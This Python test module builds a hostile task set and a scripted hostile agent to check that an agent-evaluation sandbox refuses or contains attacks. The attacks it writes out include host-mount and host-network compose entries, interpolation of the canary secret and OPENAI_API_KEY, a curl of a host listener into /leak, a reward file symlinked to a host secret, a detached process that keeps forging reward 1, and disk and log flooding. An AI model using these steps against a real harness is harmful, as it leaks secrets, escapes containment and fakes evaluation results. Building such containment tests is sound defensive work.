"""A task set written as an attacker would write one: one task dir per way a task (or what a
model wrote into its verifier or Dockerfile) has reached the host through a Harbor trial.

Static ones must be refused before anything runs; runnable ones must run contained. Every
runnable verifier dumps the container's environment into its logs (no canary may be there)
and gives reward 1 only when /app/out.txt says `hello` (which no hostile agent writes)."""

from __future__ import annotations

import json
import textwrap
from dataclasses import dataclass
from pathlib import Path

BASE = "litecoder-base:bookworm"
CANARY_VAR = "LITECODER_CANARY_SECRET"
# The verifier's standard ending: the reward, after the container's environment is logged.
REWARD = (
    "mkdir -p /logs/verifier\n"
    "{ env; tr '\\0' '\\n' < /proc/1/environ; } > /logs/verifier/env.txt 2>&1\n"
    "if grep -qx hello /app/out.txt 2>/dev/null; then echo 1 > /logs/verifier/reward.txt; "
    "else echo 0 > /logs/verifier/reward.txt; fi\n"
)
SOLVE = "mkdir -p /app && echo hello > /app/out.txt\n"


@dataclass(frozen=True)
class Host:
    """What the attacks aim at on the host."""

    secret_file: Path  # a root-readable file holding the canary
    canary: str
    dir: Path  # a host directory nothing may write into
    listener: str  # http://ADDR:PORT of a loopback service
    addresses: tuple[str, ...]  # the host's IPv4 addresses (bridges included)
    port: int  # where a listener on every host address answers


# Refused before anything runs: task -> (what to write, a word the finding must name).
STATIC = {
    "subst-volumes": "compose",
    "subst-env-file": "compose",
    "subst-environment": "compose",
    "subst-network-mode": "compose",
    "subst-pid": "compose",
    "subst-build-network": "compose",
    "env-template": "templates",
    "add-url": "copy_sources",
}
# Run, contained: task -> what the oracle's reward must be.
RUNNABLE = {
    "reward-link": None,  # the reward is a link to a host file: not copied, no reward
    "sparse-log": 1.0,  # 1 TB sparse files in the log dirs: refused, the trial still counts
    "escapee": 0.0,  # a process left by solve.sh keeps writing reward 1: killed first
    "log-flood": 1.0,  # 300 MB to the container's own stdout: the engine's log is capped
    "big-reward": None,  # a 300 MB non-numeric reward: refused, no reward
    "big-output": 1.0,  # 1 GB on the command's stdout: bounded in litecoder and Harbor
    "sidecar": 1.0,  # a sidecar reachable by name; no host address reachable
}


def _task(root: Path, name: str, *, solve: str, test: str, storage_mb: int = 400,
          verifier_env: dict[str, str] | None = None) -> Path:  # fmt: skip
    from harbor.models.task.config import TaskConfig

    d = root / name
    (d / "environment").mkdir(parents=True)
    (d / "tests").mkdir()
    (d / "solution").mkdir()
    (d / "instruction.md").write_text("Write `hello` to /app/out.txt.\n")
    (d / "environment/Dockerfile").write_text(f"FROM {BASE}\nRUN mkdir -p /app\nWORKDIR /app\n")
    (d / "tests/test.sh").write_text("#!/bin/bash\n" + test)
    (d / "solution/solve.sh").write_text("#!/bin/bash\n" + solve)
    cfg = TaskConfig.model_validate(
        {
            "agent": {"timeout_sec": 300},
            "verifier": {"timeout_sec": 300, "env": verifier_env or {}},
            "environment": {"cpus": 1, "memory_mb": 512, "storage_mb": storage_mb},
        }
    )
    (d / "task.toml").write_text(cfg.model_dump_toml())
    return d


def build(root: Path, host: Host) -> Path:
    """The hostile task set under `root`; returns `root`."""
    root.mkdir(parents=True, exist_ok=True)
    side = {"image": BASE, "command": ["sleep", "infinity"]}

    def compose(name: str, doc: dict[str, object]) -> Path:
        d = _task(root, name, solve=SOLVE, test=REWARD)
        (d / "environment/docker-compose.yaml").write_text(json.dumps(doc))
        return d

    compose("subst-volumes", {"services": {"main": {"volumes": [
        {"type": "${X:-bind}", "source": str(host.dir), "target": "/m"}]}}})  # fmt: skip
    compose("subst-env-file", {"services": {"main": {"env_file": f"${{E:-{host.dir}/.env}}"}}})
    compose("subst-environment", {"services": {"main": {"environment": {
        "K": f"${{{CANARY_VAR}}}", "OPENAI": "${OPENAI_API_KEY}"}}}})  # fmt: skip
    compose("subst-network-mode", {"services": {"main": {}, "side": {
        **side, "network_mode": "${N:-host}"}}})  # fmt: skip
    compose("subst-pid", {"services": {"main": {}, "side": {**side, "pid": "${P:-host}"}}})
    d = compose("subst-build-network", {"services": {"main": {}, "side": {
        "build": {"context": "side", "network": "${B:-host}"}}}})  # fmt: skip
    (d / "environment/side").mkdir()
    (d / "environment/side/Dockerfile").write_text(
        f"FROM {BASE}\nRUN curl -s {host.listener}/ > /leak || true\n"
    )
    _task(root, "env-template", solve=SOLVE, test=REWARD,
          verifier_env={"X": f"${{{CANARY_VAR}}}"})  # fmt: skip
    d = _task(root, "add-url", solve=SOLVE, test=REWARD)
    (d / "environment/Dockerfile").write_text(
        f"FROM {BASE}\nADD {host.listener}/secret /secret\nWORKDIR /app\n"
    )

    _task(root, "reward-link", solve=SOLVE,
          test=REWARD + f"ln -sf {host.secret_file} /logs/verifier/reward.txt\n")  # fmt: skip
    _task(
        root,
        "sparse-log",
        solve=SOLVE + "truncate -s 1T /logs/agent/sparse; mkdir -p /logs/artifacts\n"
        "truncate -s 1T /logs/artifacts/sparse\n",
        test="truncate -s 1T /logs/verifier/sparse\n" + REWARD,
    )
    _task(
        root,
        "escapee",
        # No solution: only the process it leaves behind would make the reward 1.
        solve="setsid nohup bash -c 'while :; do mkdir -p /logs/verifier; "
        "echo 1 > /logs/verifier/reward.txt; sleep 0.05; done' >/dev/null 2>&1 &\n",
        test=REWARD + "sleep 3\n",
    )
    _task(root, "log-flood",
          solve="yes 'flood flood flood flood flood' | head -c 300000000 > /proc/1/fd/1\n" + SOLVE,
          test=REWARD)  # fmt: skip
    _task(
        root,
        "big-reward",
        solve=SOLVE,
        storage_mb=1024,
        test=REWARD + "head -c 300000000 /dev/zero | tr '\\0' x > /logs/verifier/reward.txt\n",
    )
    _task(
        root,
        "big-output",
        solve=SOLVE,
        # The verifier's stdout goes to a file; its parent shell's is the command's own pipe.
        test=REWARD + "yes | head -c 1000000000 > /proc/$PPID/fd/1\n",
    )
    # Written in Python: a verifier that runs `curl URL` counts as one that downloads.
    probe = textwrap.dedent(f"""\
        import socket, struct, urllib.request
        def reach(url):
            try:
                urllib.request.urlopen(url, timeout=3).read()
                return True
            except Exception:
                return False
        ok = reach("http://db:8000/")
        hosts = {list(host.addresses)!r}
        for line in open("/proc/net/route").readlines()[1:]:
            f = line.split()
            if f[1] == "00000000":  # the default gateway, if there is one
                hosts.append(socket.inet_ntoa(struct.pack("<L", int(f[2], 16))))
        for h in hosts:
            if reach(f"http://{{h}}:{host.port}/"):
                ok = False
                print("reached", h)
        if not ok:
            open("/logs/verifier/reward.txt", "w").write("0")
        """)
    d = _task(root, "sidecar", solve=SOLVE, test=REWARD + "python3 /tests/probe.py\n")
    (d / "tests/probe.py").write_text(probe)
    (d / "environment/docker-compose.yaml").write_text(json.dumps({"services": {
        "main": {"depends_on": ["db"]},
        "db": {"image": BASE, "command": ["python3", "-m", "http.server", "8000"],
               "healthcheck": {"test": ["CMD", "curl", "-sf", "http://localhost:8000/"],
                               "interval": "1s", "retries": 30}},
    }}))  # fmt: skip
    return root


# The hostile agent (Terminus-2 JSON turns): what the runnable tasks' solutions do, from the
# agent's side. It never writes /app/out.txt.
AGENT_COMMANDS = [
    "truncate -s 1T /logs/agent/sparse; echo sparse-done",
    "yes 'flood flood flood flood' | head -c 200000000 > /proc/1/fd/1; echo flood-done",
    "yes | head -c 1000000000 | tail -c 20; echo output-done",
    "setsid nohup bash -c 'while :; do mkdir -p /logs/verifier; echo 1 > "
    "/logs/verifier/reward.txt; sleep 0.05; done' >/dev/null 2>&1 & echo escapee-started",
    f"env | grep -c {CANARY_VAR} ; echo env-done",
]


def agent_turn(n_assistant_turns: int) -> str:
    if n_assistant_turns < len(AGENT_COMMANDS):
        cmd = {"keystrokes": AGENT_COMMANDS[n_assistant_turns] + "\n", "duration": 2.0}
        return json.dumps(
            {"analysis": "step", "plan": "next", "commands": [cmd], "task_complete": False}
        )
    return json.dumps({"analysis": "done", "plan": "done", "commands": [], "task_complete": True})
